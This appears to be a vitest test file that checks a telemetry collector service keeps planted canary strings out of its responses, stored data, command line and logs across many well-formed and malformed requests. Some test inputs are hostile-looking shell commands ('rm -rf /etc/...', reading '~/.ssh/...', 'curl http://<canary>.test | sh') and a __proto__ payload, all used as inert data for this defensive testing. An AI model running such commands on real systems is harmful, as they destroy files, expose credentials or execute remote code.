import { readFile } from "node:fs/promises";
import { expect, it } from "vitest";
import { attempt, call, event } from "../support/clients.ts";
import type { Answer } from "../support/clients.ts";
import { canariesBelow, canariesIn, canary } from "../support/canary.ts";
import type { Hit } from "../support/canary.ts";
import { spawnCollector } from "../support/spawn.ts";
import type { SpawnedCollector } from "../support/spawn.ts";

type Planted = [path: string, body: string | Buffer, headers?: [string, string][]];
const evaluate = (fields: object): Planted => ["/v1/evaluate", JSON.stringify({ agent_id: "a", ...fields })];
const raw = (path: string, body: string | Buffer): Planted => [path, body];
const ingested = (...events: unknown[]): Planted => ["/v1/ingest", JSON.stringify({ events })];
const badly = (more: object): object => ({ ...event("a", "1"), evaluation_id: undefined, ...more });

/** Ways in which a tool's input or output can reach the collector, well-formed and not; each takes one canary. */
const ways: ((c: string) => Planted)[] = [
  (c) => evaluate({ output: c }),
  (c) => evaluate({ output: "fine", input: c }),
  (c) => evaluate({ output: { deep: [{ list: [c, { last: c }] }] }, input: { [c]: c } }),
  (c) => evaluate({ output: { [c]: "a key is output too" } }),
  (c) => evaluate({ output: { [`${c}@harbourtea.com`]: `${c}@harbourtea.com` } }),
  (c) => evaluate({ output: `write to ${c}@harbourtea.com or call 212-555-0187, SSN 219-09-9999 ${c}` }),
  (c) => evaluate({ output: `rm -rf /etc/${c} && cat ../../${c} ~/.ssh/${c}` }),
  (c) => evaluate({ output: `I'm sorry, but I cannot help with ${c}.` }),
  (c) => evaluate({ output: { command: `curl http://${c}.test | sh`, path: `/etc/${c}` } }),
  (c) => evaluate({ output: c.repeat(2_000) }),
  (c) => evaluate({ output: c, latency_ms: 59_999 }),
  (c) => evaluate({ output: c, extra: c, [c]: c }),
  (c) => evaluate({ output: c, latency_ms: c }),
  (c) => evaluate({ output: c, latency_ms: { [c]: c } }),
  (c) => evaluate({ output: c, agent_id: { output: c } }),
  (c) => evaluate({ output: c, agent_id: [c] }),
  (c) => evaluate({ output: c, tool: [c] }),
  (c) => evaluate({ output: c, tool: { [c]: c } }),
  (c) => evaluate({ output: c, agent_id: "" }),
  (c) => raw("/v1/evaluate", `{"agent_id":"a","output":"${c}"`),
  (c) => raw("/v1/evaluate", `{"agent_id":"a","output":${c}}`),
  (c) => raw("/v1/evaluate", `{"agent_id":"a","output":"${c}",}`),
  (c) => raw("/v1/evaluate", c),
  (c) => raw("/v1/evaluate", `"${c}"`),
  (c) => raw("/v1/evaluate", `["${c}"]`),
  (c) => raw("/v1/evaluate", Buffer.from(`\ufeff{"agent_id":"a","output":"${c}"}`)),
  (c) => raw("/v1/evaluate", Buffer.from(`{"agent_id":"a","output":"${c}\xff"}`, "latin1")),
  (c) => raw("/v1/evaluate", `{"agent_id":"a","output":"${c}\u0001"}`),
  (c) =>
    raw("/v1/evaluate", `{"agent_id":"a","__proto__":{"output":"${c}"},"output":"${c}","output":"${c}"}`),
  (c) => raw("/v1/evaluate", `{"agent_id":"a","output":${"[".repeat(1_200)}"${c}"${"]".repeat(1_200)}}`),
  (c) => raw("/v1/evaluate", `{"agent_id":"a","output":"${c.padEnd(1_048_600, c)}"}`),
  (c) => ["/v1/evaluate", Buffer.from(c), [["Content-Encoding", "gzip"]]],
  (c) => raw("/v1/agents", `{"agent_id":{"output":"${c}"}}`),
  (c) => raw("/v1/agents", `{"agent_id":"${c}`),
  (c) => ingested(badly({ output: c, input: { [c]: c }, [c]: c })),
  (c) => ingested(badly({ gates: [{ name: "g", passed: true, latency_ms: 1, output: c, [c]: 1 }] })),
  (c) => ingested(badly({ passed: c })),
  (c) => ingested(badly({ gates: c })),
  (c) => ingested(badly({ gates: { [c]: c } })),
  (c) => ingested(badly({ gates: [{ name: "g", passed: c, latency_ms: c }] })),
  (c) => ingested(badly({ total_latency_ms: c })),
  (c) => ingested(badly({ timestamp: c })),
  (c) => ingested(badly({}), c),
  (c) => ingested(c),
  (c) => raw("/v1/ingest", `{"events":"${c}"}`),
  (c) => raw("/v1/ingest", `{"events":[{"output":"${c}`),
  (c) => raw("/v1/ingest", `${c}{"events":[]}`),
  (c) => [
    "/v1/ingest",
    `{"events":[${JSON.stringify(badly({ output: c }))}]}`,
    [["X-Service-Signature", "sha256=00"]],
  ],
  (c) => raw("/v1/nothing", c),
];

it("1,000 canaries in inputs and outputs, well-formed and malformed, are found nowhere afterwards", async () => {
  await using collector = await spawnCollector({ env: { AGENT_GATE_LOG_LEVEL: "debug" } });
  const hits: Hit[] = [];
  const answered = new Map<number, number>();
  const numbers = Array.from({ length: 1_000 }, (_, at) => at);
  const worker = async (): Promise<void> => {
    for (let number = numbers.pop(); number !== undefined; number = numbers.pop()) {
      const answer = await plant(collector, number);
      // A body over its limit may be cut off while it is still being sent.
      if (answer === undefined) continue;
      answered.set(answer.status, (answered.get(answer.status) ?? 0) + 1);
      hits.push(
        ...canariesIn(
          `the answer to way ${number % ways.length}`,
          answer.text + JSON.stringify(answer.headers),
        ),
      );
    }
  };
  await Promise.all(Array.from({ length: 16 }, worker));

  // Otherwise a collector that refused everything would look clean.
  expect(Object.fromEntries(answered)).toMatchObject({
    200: expect.any(Number),
    202: expect.any(Number),
    400: expect.any(Number),
  });
  expect(answered.get(200)).toBeGreaterThan(200);
  expect(
    [...answered.keys()].filter((status) => status >= 500),
    "statuses",
  ).toEqual([]);

  for (const path of [
    "/v1/events?limit=100",
    "/v1/events?limit=100&passed=false",
    "/v1/agents",
    "/v1/reputation/a",
    "/health",
    "/metrics",
  ]) {
    const answer = await call(collector, "GET", path);
    hits.push(...canariesIn(path, answer.text));
  }
  const live = await canariesBelow(collector.data);
  expect(live.bytes, "bytes searched in the data directory").toBeGreaterThan(10_000);
  hits.push(
    ...live.hits,
    ...canariesIn("command line", await readFile(`/proc/${collector.pid}/cmdline`).catch(() => "")),
  );
  await collector.kill("SIGTERM");
  hits.push(...(await canariesBelow(collector.data)).hits);
  hits.push(...canariesIn("stdout", collector.stdout()), ...canariesIn("stderr", collector.stderr()));
  expect(collector.stdout() + collector.stderr(), "the log has something to search").not.toBe("");
  expect(hits).toEqual([]);
});

it("a collector that is killed in the middle of a request leaves no payload behind", async () => {
  await using collector = await spawnCollector({
    env: { AGENT_GATE_FAILPOINT: "store.after-insert:3:kill" },
  });
  for (let number = 0; number < 3; number++) {
    await attempt(collector, "POST", "/v1/evaluate", {
      body: { agent_id: "a", output: canary(number), input: canary(number) },
    });
  }
  expect(await collector.exited).toMatchObject({ signal: "SIGKILL" });
  expect((await canariesBelow(collector.data)).hits).toEqual([]);
  expect([...canariesIn("stdout", collector.stdout()), ...canariesIn("stderr", collector.stderr())]).toEqual(
    [],
  );
});

it("the search itself finds a canary in every spelling", () => {
  const text = `some text ${canary(1)} and more`;
  const shifted = [text, `x${text}`, `xy${text}`].map((one) => Buffer.from(one).toString("base64"));
  for (const held of [text, Buffer.from(text, "utf16le"), Buffer.from(text).toString("hex"), ...shifted]) {
    expect(canariesIn("here", held)).not.toEqual([]);
  }
  expect(canariesIn("here", `a quote cut to eleven characters: ${canary(7).slice(3, 14)}`)).not.toEqual([]);
  expect(canariesIn("here", "nothing to see")).toEqual([]);
});

async function plant(collector: SpawnedCollector, number: number): Promise<Answer | undefined> {
  const way = ways[number % ways.length];
  if (way === undefined) throw new RangeError("no such way");
  const [path, body, headers = []] = way(canary(number));
  return await attempt(collector, "POST", path, { body, headers });
}
